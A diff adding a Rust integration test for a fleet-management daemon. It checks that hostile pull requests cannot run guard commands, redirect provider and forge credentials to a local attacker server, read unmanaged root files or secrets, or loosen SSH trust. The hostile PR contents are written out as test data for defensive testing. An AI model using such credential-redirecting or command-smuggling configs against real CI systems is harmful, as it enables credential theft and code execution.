@@ -1,0 +1,353 @@
+//! Hostile pull requests. The daemon follows `main` and plans proposals; each
+//! PR below tries one way through the trust boundary (running code, reading
+//! what main does not manage, redirecting credentials, loosening SSH), and
+//! the tests show that nothing happened: no marker on the host or the
+//! controller, no request at the attacker's server, nothing private in the
+//! notes, comments or logs — while the plans stay useful.
+
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use axum::Router;
+use axum::body::Bytes;
+use axum::http::{HeaderMap, Method, Uri};
+
+use crate::forge::{fake_github, open_pr};
+use crate::support::daemon::Daemon;
+use crate::support::fleet::{FleetRepo, age_identity, text};
+use crate::support::testbed::Testbed;
+use crate::support::{TempDir, git};
+
+/// Everything that reached the attacker's server: method, path, headers, body.
+type Seen = Arc<Mutex<Vec<String>>>;
+
+fn free_port() -> u16 {
+    std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+/// A server a PR author controls: records every request, answers `{}`.
+fn attacker() -> (u16, Seen) {
+    let seen: Seen = Arc::default();
+    let s = seen.clone();
+    let app = Router::new().fallback(move |m: Method, u: Uri, h: HeaderMap, b: Bytes| {
+        let s = s.clone();
+        async move {
+            s.lock()
+                .unwrap()
+                .push(format!("{m} {u} {h:?} {}", String::from_utf8_lossy(&b)));
+            "{}"
+        }
+    });
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    l.set_nonblocking(true).unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+        rt.block_on(async move {
+            let l = tokio::net::TcpListener::from_std(l).unwrap();
+            axum::serve(l, app).await.unwrap();
+        });
+    });
+    (port, seen)
+}
+
+const BASE_ROLE: &str = "files:\n  - {path: /etc/tk-app, content: \"one\\n\"}\ncommands:\n  - {name: seeded, run: \"true\", unless: \"test -e /etc/tk-app\"}\n";
+const PRIVATE: &str = "TOP-SECRET-7731";
+const PRIVATE_KEY_LINE: &str =
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileTestOnlyKeyThatMustNeverLeak0000 private-9911";
+const DB_PASSWORD: &str = "db-password-5532-long";
+const WEBHOOK_SECRET: &str = "webhook-secret-8821-long";
+
+fn forge_yaml(url: &str, extra: &str) -> String {
+    format!(
+        "fleet: test\n{extra}status:\n  forge:\n    kind: github\n    url: {url}\n    repo: acme/fleet\n"
+    )
+}
+
+/// A fresh public key (ssh-keygen), for a user a PR adds.
+fn public_key(dir: &TempDir) -> String {
+    let path = dir.path().join("eve");
+    let out = std::process::Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", "eve", "-f"])
+        .arg(&path)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out));
+    std::fs::read_to_string(path.with_extension("pub"))
+        .unwrap()
+        .trim()
+        .to_string()
+}
+
+fn note(repo: &FleetRepo, commit: &str) -> String {
+    git(&repo.path, &["notes", "--ref=tidekeeper", "show", commit])
+}
+
+#[test]
+fn hostile_pull_requests_run_nothing_read_nothing_and_send_no_credential() {
+    let bed = Testbed::start(1);
+    bed.ssh_ok(
+        0,
+        &format!(
+            "printf '{PRIVATE}\\n' > /root/private.txt && mkdir -p /root/.ssh && printf '%s\\n' '{PRIVATE_KEY_LINE}' >> /root/.ssh/authorized_keys"
+        ),
+    );
+    let forge_port = free_port();
+    let fake = fake_github(forge_port);
+    let (evil_port, evil) = attacker();
+    let evil_url = format!("http://127.0.0.1:{evil_port}");
+    let controller = TempDir::new("hostile-controller");
+    let ctrl = controller.path().display().to_string();
+
+    let repo = FleetRepo::minimal(&bed, &[("app", BASE_ROLE)]);
+    let identity = age_identity();
+    repo.encrypt_secret(&identity, "db", DB_PASSWORD);
+    repo.write(
+        "tidekeeper.yaml",
+        &forge_yaml(&format!("http://127.0.0.1:{forge_port}"), ""),
+    );
+    repo.commit("forge and a secret");
+    let main = git(&repo.path, &["rev-parse", "HEAD"]);
+
+    // PR 1: code in guards, a validate command, and a local host that would
+    // run on the daemon's own machine.
+    let pr_code = open_pr(&repo, 1, |r| {
+        r.write(
+            "roles/app.yaml",
+            "files:\n  - {path: /etc/tk-app, content: \"two\\n\", validate: \"touch /tmp/tk-pwned-validate %s\"}\n\
+             commands:\n  - {name: seeded, run: \"true\", unless: \"test -e /etc/tk-app\"}\n  \
+             - {name: g1, run: \"true\", unless: \"touch /tmp/tk-pwned-unless\"}\n  \
+             - {name: g2, run: \"true\", onlyif: \"touch /tmp/tk-pwned-onlyif\"}\n",
+        );
+        r.write(
+            "hosts/evil.yaml",
+            &format!("provider: local\nroot: {ctrl}/root\nroles: [evil]\n"),
+        );
+        r.write(
+            "roles/evil.yaml",
+            &format!(
+                "commands:\n  - {{name: x, run: \"touch {ctrl}/pwned-run\", unless: \"touch {ctrl}/pwned-local\"}}\n"
+            ),
+        );
+    });
+    // PR 2: the provider and the forge pointed at the attacker, with the
+    // daemon's webhook secret as their token.
+    let pr_creds = open_pr(&repo, 2, |r| {
+        r.write(
+            "tidekeeper.yaml",
+            &forge_yaml(
+                &evil_url,
+                &format!(
+                    "providers:\n  hetzner:\n    endpoint: {evil_url}/v1\n    token_env: TIDEKEEPER_WEBHOOK_SECRET\n"
+                ),
+            )
+            .replace(
+                "    repo: acme/fleet\n",
+                "    repo: acme/fleet\n    token_env: TIDEKEEPER_WEBHOOK_SECRET\n",
+            ),
+        );
+        r.write(
+            "hosts/cloudy.yaml",
+            "provider: hetzner\nserver: {type: cx22, image: debian-12, location: fsn1}\nroles: [app]\n",
+        );
+    });
+    // PR 3: files main does not manage (one directly, one through a user's
+    // home), and a secret.
+    let eve = public_key(&controller);
+    let pr_read = open_pr(&repo, 3, |r| {
+        r.write(
+            "roles/app.yaml",
+            &format!(
+                "{BASE_ROLE}\
+                 users:\n  - name: eve\n    home: /root\n    authorized_keys: [\"{eve}\"]\n"
+            )
+            .replace(
+                "files:\n",
+                "files:\n  - {path: /root/private.txt, content: \"guess\\n\"}\n  - {path: /etc/tk-db, secret: db}\n",
+            ),
+        );
+    });
+    // PR 4: log in as someone else, on another port, trusting any host key.
+    let pr_ssh = open_pr(&repo, 4, |r| {
+        r.write(
+            "tidekeeper.yaml",
+            &forge_yaml(
+                &format!("http://127.0.0.1:{forge_port}"),
+                "defaults:\n  ssh:\n    user: eve\n    port: 2222\n    trust_on_first_use: true\n",
+            ),
+        );
+        r.write("known_hosts", "");
+    });
+
+    let env = [
+        ("GITHUB_TOKEN", "t0k"),
+        ("TIDEKEEPER_WEBHOOK_SECRET", WEBHOOK_SECRET),
+        ("TIDEKEEPER_AGE_IDENTITY", identity.as_str()),
+    ];
+    let d = Daemon::start_env(
+        &repo.path,
+        &repo.key,
+        &["--poll", "1s", "--drift", "600s"],
+        &env,
+    );
+    d.wait_applied(&main, Duration::from_secs(30));
+    d.wait_for("the four PRs reported", Duration::from_secs(60), |_| {
+        fake.lock().unwrap().comments.len() == 4
+    });
+    let comment = |pr: u64| -> String {
+        let f = fake.lock().unwrap();
+        f.comments.iter().find(|c| c.0 == pr).unwrap().2.clone()
+    };
+
+    // Nothing of any PR ran, on the host or on the controller.
+    let markers = bed.ssh(
+        0,
+        "ls /tmp/tk-pwned-unless /tmp/tk-pwned-onlyif /tmp/tk-pwned-validate",
+    );
+    assert!(!markers.status.success(), "{}", text(&markers));
+    for m in ["pwned-local", "pwned-run", "root"] {
+        assert!(!controller.path().join(m).exists(), "{m} on the controller");
+    }
+    let c1 = comment(1);
+    assert!(c1.contains("not evaluated for proposals"), "{c1}");
+    assert!(
+        c1.contains("evil") && c1.contains("configured after merge"),
+        "{c1}"
+    );
+    assert!(
+        !c1.contains("command seeded"),
+        "a guard exactly as on main is evaluated (it says skip): {c1}"
+    );
+    assert!(c1.contains("+two"), "managed files keep their diffs: {c1}");
+
+    // No request reached the attacker; the base's forge got every report with its token.
+    assert!(
+        evil.lock().unwrap().is_empty(),
+        "{:?}",
+        evil.lock().unwrap()
+    );
+    assert_eq!(fake.lock().unwrap().bad_auth, 0);
+    let c2 = comment(2);
+    assert!(
+        c2.contains("Hetzner provider settings") && c2.contains("forge settings"),
+        "the comment says what takes effect after merge: {c2}"
+    );
+
+    // Nothing main does not manage was read.
+    let n3 = note(&repo, &pr_read);
+    let c3 = comment(3);
+    for text in [&n3, &c3] {
+        assert!(!text.contains(PRIVATE), "{text}");
+        assert!(
+            !text.contains("VE9QLVNFQ1JFVC03NzMx"),
+            "base64 of it: {text}"
+        );
+        assert!(!text.contains("private-9911"), "{text}");
+        assert!(!text.contains(DB_PASSWORD), "{text}");
+        assert!(
+            text.contains("current content not shown (not managed on the base branch)"),
+            "{text}"
+        );
+    }
+    assert!(n3.contains("/etc/tk-db"), "the secret file is named: {n3}");
+    assert!(n3.contains("never decrypted for proposals"), "{n3}");
+
+    // SSH settings are main's: the host was still planned, the comment says why.
+    let c4 = comment(4);
+    assert!(c4.contains("SSH settings"), "{c4}");
+    assert!(c4.contains("known_hosts"), "{c4}");
+    assert!(
+        !c4.contains(": error"),
+        "planned with main's SSH settings: {c4}"
+    );
+
+    for (pr, sha) in [(1, &pr_code), (2, &pr_creds), (4, &pr_ssh)] {
+        assert!(
+            note(&repo, sha).contains(&format!("refs/pull/{pr}/head")),
+            "PR {pr} noted"
+        );
+    }
+    let log = d.log();
+    for secret in [WEBHOOK_SECRET, DB_PASSWORD, PRIVATE] {
+        assert!(!log.contains(secret), "{secret} in the log");
+    }
+    let st = d.get("/status").1;
+    assert!(!st.contains(PRIVATE) && !st.contains(DB_PASSWORD), "{st}");
+    assert_eq!(
+        bed.ssh_ok(0, "cat /etc/tk-app /root/private.txt"),
+        format!("one\n{PRIVATE}\n"),
+        "no PR was applied"
+    );
+
+    // Planned once per head: a restarted daemon plans none of them again.
+    let requests = fake.lock().unwrap().requests.len();
+    let state = d.stop_keep_state();
+    let d = Daemon::start_full(
+        &repo.path,
+        &repo.key,
+        &["--poll", "1s", "--drift", "600s"],
+        state,
+        &env,
+    );
+    d.wait_fetches(3, Duration::from_secs(30));
+    assert!(!d.log().contains("proposal planned"), "{}", d.log());
+    assert_eq!(fake.lock().unwrap().requests.len(), requests);
+
+    // A deleted PR ref is forgotten: the record in the state dir drops it.
+    git(&repo.path, &["update-ref", "-d", "refs/pull/4/head"]);
+    let record = d.state.path().join("state/proposals.json");
+    d.wait_for("the deleted PR pruned", Duration::from_secs(30), |_| {
+        std::fs::read_to_string(&record).is_ok_and(|r| !r.contains("refs/pull/4/head"))
+    });
+    let r = std::fs::read_to_string(&record).unwrap();
+    assert!(r.contains("refs/pull/3/head"), "{r}");
+}
+
+#[test]
+fn the_cli_plans_an_untrusted_branch_under_the_base_branch() {
+    let bed = Testbed::start(1);
+    bed.ssh_ok(0, &format!("printf '{PRIVATE}\\n' > /root/private.txt"));
+    let repo = FleetRepo::minimal(&bed, &[("app", BASE_ROLE)]);
+    let controller = TempDir::new("hostile-cli");
+    let ctrl = controller.path().display().to_string();
+    assert!(repo.tk(&["apply", "--yes"]).status.success());
+    git(&repo.path, &["checkout", "-q", "-b", "pr"]);
+    repo.write(
+        "roles/app.yaml",
+        "files:\n  - {path: /etc/tk-app, content: \"two\\n\"}\n  - {path: /root/private.txt, content: \"guess\\n\"}\n\
+         commands:\n  - {name: g1, run: \"true\", unless: \"touch /tmp/tk-pwned-cli\"}\n",
+    );
+    repo.write(
+        "hosts/evil.yaml",
+        &format!("provider: local\nroot: {ctrl}/root\nroles: [evil]\n"),
+    );
+    repo.write(
+        "roles/evil.yaml",
+        &format!("commands:\n  - {{name: x, run: \"true\", unless: \"touch {ctrl}/pwned\"}}\n"),
+    );
+    repo.commit("untrusted");
+    git(&repo.path, &["checkout", "-q", "main"]);
+
+    let out = repo.tk(&["plan", "--ref", "pr", "--untrusted", "--base", "main"]);
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(0), "{t}");
+    assert!(t.contains("+two"), "{t}");
+    assert!(t.contains("not evaluated for proposals"), "{t}");
+    assert!(t.contains("current content not shown"), "{t}");
+    assert!(t.contains("configured after merge"), "{t}");
+    assert!(!t.contains(PRIVATE), "{t}");
+    assert!(!controller.path().join("pwned").exists());
+    assert!(!bed.ssh(0, "test -e /tmp/tk-pwned-cli").status.success());
+
+    // The same ref planned as trusted (the person at the CLI says so) runs its guard.
+    let out = repo.tk(&["plan", "--ref", "pr", "--host", &bed.host(0).name]);
+    assert!(out.status.success(), "{}", text(&out));
+    assert!(bed.ssh(0, "test -e /tmp/tk-pwned-cli").status.success());
+}
